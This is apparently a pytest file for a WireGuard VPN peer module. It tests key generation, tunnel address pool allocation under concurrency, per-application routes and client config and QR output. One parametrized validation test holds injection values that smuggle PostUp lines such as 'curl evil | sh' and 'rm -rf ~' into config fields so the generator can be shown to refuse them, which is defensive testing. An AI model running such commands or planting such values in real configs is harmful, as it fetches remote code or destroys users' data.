"""WireGuard peers: keys as ``wg`` writes them, address pool, routes, client config, QR.

SECURITY.md item 23 in its VPN form (no tunnel address handed out twice, also under
parallel issuance) and the per-application rule of DESIGN.md capability 3 (an
office-only application's network never reaches a client's AllowedIPs).
"""

from __future__ import annotations

import base64
import configparser
import ipaddress
import re
import threading
import time
import xml.etree.ElementTree as ET

import pytest

from vpn.wireguard import (
    AddressPool,
    AllocationFailed,
    Application,
    PoolExhausted,
    allocate,
    allowed_networks,
    client_config,
    generate_keypair,
    generate_preshared_key,
    is_key,
    public_key,
    qr_data_uri,
    qr_svg,
)

BASE64_KEY = re.compile(r"[A-Za-z0-9+/]{43}=")
SVG_NS = "{http://www.w3.org/2000/svg}"

RESIDENT_REGISTRY = Application("Einwohnermeldewesen", ("10.20.5.0/24",), remote_access=False)
APPLICATIONS = [
    Application("Dokumentenmanagement", ("10.20.1.0/25", "10.20.1.128/25"), remote_access=True),
    Application("Finanzverfahren", ("10.20.2.0/24", "10.20.1.0/24"), remote_access=True),
    Application("Terminalserver", ("10.30.0.10/32",), remote_access=True),
    RESIDENT_REGISTRY,
]


# --- keys -----------------------------------------------------------------------------


def test_keypair_is_base64_of_32_raw_bytes_like_wg() -> None:
    private, public = generate_keypair()
    for key in (private, public):
        assert len(key) == 44
        assert BASE64_KEY.fullmatch(key)
        assert len(base64.b64decode(key, validate=True)) == 32
    assert public_key(private) == public
    raw = base64.b64decode(private)
    assert raw[0] & 7 == 0 and raw[31] & 128 == 0 and raw[31] & 64 == 64  # clamped


def test_keypairs_differ() -> None:
    pairs = {generate_keypair() for _ in range(200)}
    assert len(pairs) == 200
    assert len({private for private, _ in pairs}) == 200


def test_public_key_matches_rfc_7748_test_vector() -> None:
    private = bytes.fromhex("77076d0a7318a57d3c16c17251b26645df4c2f87ebc0992ab177fba51db92c2a")
    public = bytes.fromhex("8520f0098930a754748b7ddcb43ef75a0dbf3a0d26381af4eba4a98eaa9b4e6a")
    assert public_key(base64.b64encode(private).decode()) == base64.b64encode(public).decode()


def test_key_validation() -> None:
    assert is_key(generate_preshared_key())
    assert is_key(generate_keypair()[1])
    too_short = base64.b64encode(b"x" * 31).decode()
    for bad in ["", "not a key", too_short, "A" * 44, "-" * 43 + "="]:
        assert not is_key(bad)
    with pytest.raises(ValueError, match="not a WireGuard key"):
        public_key("A" * 44)


# --- address pool ---------------------------------------------------------------------


def test_pool_reserves_the_gateway_and_skips_network_and_broadcast() -> None:
    pool = AddressPool("10.66.0.0/24")
    assert pool.capacity == 253
    assert pool.reserved_addresses == ["10.66.0.1"]
    assert pool.next_free([]) == "10.66.0.2"
    assert pool.contains("10.66.0.2") and pool.contains("10.66.0.254")
    for outside in ["10.66.0.0", "10.66.0.1", "10.66.0.255", "10.66.1.2", "fd00::2"]:
        assert not pool.contains(outside)
    with pytest.raises(ValueError):
        pool.contains("10.66.0.x")
    assert AddressPool("10.66.0.0/24", reserved=3).next_free([]) == "10.66.0.4"


def test_next_free_takes_the_lowest_gap_and_reads_prefixes() -> None:
    pool = AddressPool("10.66.0.0/24")
    used = ["10.66.0.2/32", "10.66.0.3", "10.66.0.5", "192.168.1.4"]
    assert pool.next_free(used) == "10.66.0.4"
    assert pool.next_free([*used, "10.66.0.4"]) == "10.66.0.6"


def test_pool_hands_out_every_address_once_until_exhausted() -> None:
    pool = AddressPool("10.66.0.0/24")
    handed_out: list[str] = []
    for _ in range(pool.capacity):
        handed_out.append(pool.next_free(handed_out))
    assert len(set(handed_out)) == 253
    assert all(pool.contains(a) for a in handed_out)
    with pytest.raises(PoolExhausted) as exhausted:
        pool.next_free(handed_out)
    message = str(exhausted.value)
    assert "10.66.0.0/24" in message and "full" in message and "253" in message


def test_ipv6_pool() -> None:
    pool = AddressPool("fd42:66::/64")
    assert pool.next_free([]) == "fd42:66::2"
    assert pool.next_free(["fd42:66::2/128"]) == "fd42:66::3"


def test_pool_refuses_bad_networks() -> None:
    with pytest.raises(ValueError):
        AddressPool("10.66.0.1/24")  # host bits set: probably a typo
    with pytest.raises(ValueError):
        AddressPool("10.66.0.0/30", reserved=2)


def test_allocate_moves_on_when_the_database_refuses() -> None:
    pool = AddressPool("10.66.0.0/24")
    taken_elsewhere = {f"10.66.0.{i}" for i in range(2, 20)}
    tried: list[str] = []

    def try_insert(address: str) -> bool:
        tried.append(address)
        return address not in taken_elsewhere

    address = allocate(pool, [], try_insert)
    assert address not in taken_elsewhere and pool.contains(address)
    assert tried[0] == "10.66.0.2"  # the lowest free address first
    assert len(tried) == len(set(tried))  # a refused address is never tried again
    assert all(pool.contains(a) for a in tried)


def test_allocate_rereads_the_taken_addresses_after_a_refusal() -> None:
    pool = AddressPool("10.66.0.0/24")
    taken_now = {f"10.66.0.{i}" for i in range(2, 200)}
    tried: list[str] = []

    def try_insert(address: str) -> bool:
        tried.append(address)
        return address not in taken_now

    assert allocate(pool, [], try_insert, reread=lambda: taken_now) not in taken_now
    assert len(tried) == 2  # one refusal, then a choice among the really free ones


def test_allocate_gives_up_after_its_attempts_and_passes_errors_on() -> None:
    pool = AddressPool("10.66.0.0/24")
    with pytest.raises(AllocationFailed, match="after 5 attempts"):
        allocate(pool, [], lambda address: False, attempts=5)

    def database_down(address: str) -> bool:
        raise ConnectionError("database down")

    with pytest.raises(ConnectionError):
        allocate(pool, [], database_down)
    small = AddressPool("10.66.0.0/29")
    with pytest.raises(PoolExhausted):
        allocate(small, [f"10.66.0.{i}" for i in range(2, 7)], lambda address: True)


class FakeTable:
    """A lock-protected set standing in for the peers table and its unique constraint."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.addresses: set[str] = set()
        self.conflicts = 0

    def snapshot(self) -> list[str]:
        with self._lock:
            return list(self.addresses)

    def try_insert(self, address: str) -> bool:
        time.sleep(0.0005)  # widen the window between reading and inserting
        with self._lock:
            if address in self.addresses:
                self.conflicts += 1
                return False
            self.addresses.add(address)
            return True


def _run_threads(count: int, work: object) -> None:
    threads = [threading.Thread(target=work) for _ in range(count)]  # type: ignore[arg-type]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)


def test_parallel_allocation_never_hands_out_an_address_twice() -> None:
    pool = AddressPool("10.66.0.0/24")
    table = FakeTable()
    results: list[str] = []
    errors: list[BaseException] = []
    start = threading.Barrier(8)

    def issue_many() -> None:
        start.wait()
        try:
            for _ in range(30):
                results.append(
                    allocate(pool, table.snapshot(), table.try_insert, reread=table.snapshot)
                )
        except BaseException as exc:  # noqa: BLE001 - reported by the assertion below
            errors.append(exc)

    _run_threads(8, issue_many)
    assert errors == []
    assert len(results) == 240
    assert len(set(results)) == 240
    assert set(results) == table.addresses
    assert all(pool.contains(a) for a in results)
    assert table.conflicts > 0  # the retry path really ran


def test_a_burst_of_parallel_requests_gets_distinct_addresses_without_reread() -> None:
    pool = AddressPool("10.66.0.0/24")
    table = FakeTable()
    results: list[str] = []
    start = threading.Barrier(8)
    snapshot = table.snapshot()

    def issue_one() -> None:
        start.wait()
        results.append(allocate(pool, snapshot, table.try_insert))

    _run_threads(8, issue_one)
    assert len(results) == len(set(results)) == 8
    assert table.conflicts > 0


def test_parallel_allocation_stops_cleanly_when_the_pool_is_full() -> None:
    pool = AddressPool("10.66.0.0/26")
    table = FakeTable()
    results: list[str] = []
    exhausted: list[PoolExhausted] = []

    def issue_many() -> None:
        for _ in range(20):
            try:
                results.append(
                    allocate(pool, table.snapshot(), table.try_insert, reread=table.snapshot)
                )
            except PoolExhausted as exc:
                exhausted.append(exc)

    _run_threads(8, issue_many)
    assert len(results) == len(set(results)) == pool.capacity == 61
    assert len(exhausted) == 8 * 20 - 61


# --- per-application routes -----------------------------------------------------------


def test_allowed_networks_drop_office_only_applications_and_collapse() -> None:
    assert allowed_networks(APPLICATIONS) == ["10.20.1.0/24", "10.20.2.0/24", "10.30.0.10/32"]
    assert allowed_networks([RESIDENT_REGISTRY]) == []


def test_office_only_network_is_cut_out_of_a_wider_remote_network() -> None:
    wide = Application("Bürgerservice", ("10.20.0.0/16",), remote_access=True)
    routes = [ipaddress.ip_network(n) for n in allowed_networks([wide, RESIDENT_REGISTRY])]
    registry = ipaddress.ip_network("10.20.5.0/24")
    assert not any(r.overlaps(registry) for r in routes)
    covered = sum(r.num_addresses for r in routes)
    assert covered == 65536 - 256
    same = Application("Melde-Statistik", ("10.20.5.0/24",), remote_access=True)
    assert allowed_networks([same, RESIDENT_REGISTRY]) == []


def test_allowed_networks_keep_ipv4_and_ipv6_apart() -> None:
    apps = [
        Application("A", ("fd00:20::/64", "10.1.0.0/24"), remote_access=True),
        Application("B", ("fd00:20::/64",), remote_access=True),
    ]
    assert allowed_networks(apps) == ["10.1.0.0/24", "fd00:20::/64"]


def test_application_refuses_a_malformed_network() -> None:
    with pytest.raises(ValueError):
        Application("Kaputt", ("10.20.300.0/24",), remote_access=True)


# --- client configuration -------------------------------------------------------------


def _config(**changes: object) -> str:
    private, _ = generate_keypair()
    values: dict[str, object] = dict(
        private_key=private,
        address="10.66.0.7",
        dns=["10.20.0.53", "musterstadt.local"],
        server_public_key=generate_keypair()[1],
        endpoint="vpn.musterstadt.de:51820",
        allowed_ips=allowed_networks(APPLICATIONS),
    )
    values.update(changes)
    return client_config(**values)  # type: ignore[arg-type]


def _parse(text: str) -> configparser.ConfigParser:
    parser = configparser.ConfigParser()
    parser.optionxform = str  # type: ignore[assignment,method-assign]
    parser.read_string(text)
    return parser


def test_client_config_is_what_wg_quick_reads() -> None:
    private, public = generate_keypair()
    server_private, server_public = generate_keypair()
    psk = generate_preshared_key()
    text = client_config(
        private_key=private,
        address="10.66.0.7",
        dns=["10.20.0.53"],
        server_public_key=server_public,
        endpoint="vpn.musterstadt.de:51820",
        allowed_ips=allowed_networks(APPLICATIONS),
        preshared_key=psk,
    )
    config = _parse(text)
    assert config.sections() == ["Interface", "Peer"]
    assert dict(config["Interface"]) == {
        "PrivateKey": private,
        "Address": "10.66.0.7/32",
        "DNS": "10.20.0.53",
    }
    assert dict(config["Peer"]) == {
        "PublicKey": server_public,
        "PresharedKey": psk,
        "Endpoint": "vpn.musterstadt.de:51820",
        "AllowedIPs": "10.20.1.0/24, 10.20.2.0/24, 10.30.0.10/32",
        "PersistentKeepalive": "25",
    }
    assert server_private not in text and public not in text


def test_client_config_routes_exactly_the_allowed_networks_never_office_only() -> None:
    config = _parse(_config())
    routes = {n.strip() for n in config["Peer"]["AllowedIPs"].split(",")}
    assert routes == set(allowed_networks(APPLICATIONS))
    registry = ipaddress.ip_network(RESIDENT_REGISTRY.networks[0])
    assert not any(ipaddress.ip_network(r).overlaps(registry) for r in routes)
    assert "10.20.5." not in _config()


def test_client_config_optional_lines() -> None:
    config = _parse(_config(dns=[], keepalive=None))
    assert "DNS" not in config["Interface"]
    assert "PresharedKey" not in config["Peer"]
    assert "PersistentKeepalive" not in config["Peer"]
    assert _parse(_config(address="fd42:66::7"))["Interface"]["Address"] == "fd42:66::7/128"
    endpoint = _parse(_config(endpoint="[2001:db8::1]:51820"))["Peer"]["Endpoint"]
    assert endpoint == "[2001:db8::1]:51820"


@pytest.mark.parametrize(
    "changes",
    [
        {"endpoint": "vpn.musterstadt.de:51820\nPostUp = curl evil | sh"},
        {"endpoint": "vpn.musterstadt.de"},
        {"endpoint": "vpn.musterstadt.de:70000"},
        {"dns": ["10.20.0.53\nPostUp = rm -rf ~"]},
        {"address": "10.66.0.7\nPostUp = id"},
        {"private_key": "A" * 43 + "\n"},
        {"server_public_key": "not-a-key"},
        {"preshared_key": "short"},
        {"allowed_ips": ["10.20.1.0/24\nPostUp = id"]},
        {"allowed_ips": ["10.20.1.1/24"]},
        {"allowed_ips": []},
        {"keepalive": 70000},
    ],
)
def test_client_config_refuses_values_that_could_break_the_file(
    changes: dict[str, object],
) -> None:
    with pytest.raises(ValueError):
        _config(**changes)


# --- QR code --------------------------------------------------------------------------


def test_qr_svg_is_plain_xml_without_script() -> None:
    svg = qr_svg(_config())
    root = ET.fromstring(svg)
    assert root.tag == f"{SVG_NS}svg"
    assert "viewBox" in root.attrib
    for element in root.iter():
        assert element.tag.removeprefix(SVG_NS) in {"svg", "g", "path", "title"}
        for name in element.attrib:
            assert not name.lower().startswith("on")
            assert "href" not in name.lower()
    assert "script" not in svg.lower()


def test_qr_data_uri_carries_the_same_svg() -> None:
    text = _config()
    uri = qr_data_uri(text)
    prefix = "data:image/svg+xml;base64,"
    assert uri.startswith(prefix)
    assert base64.b64decode(uri.removeprefix(prefix)).decode() == qr_svg(text)
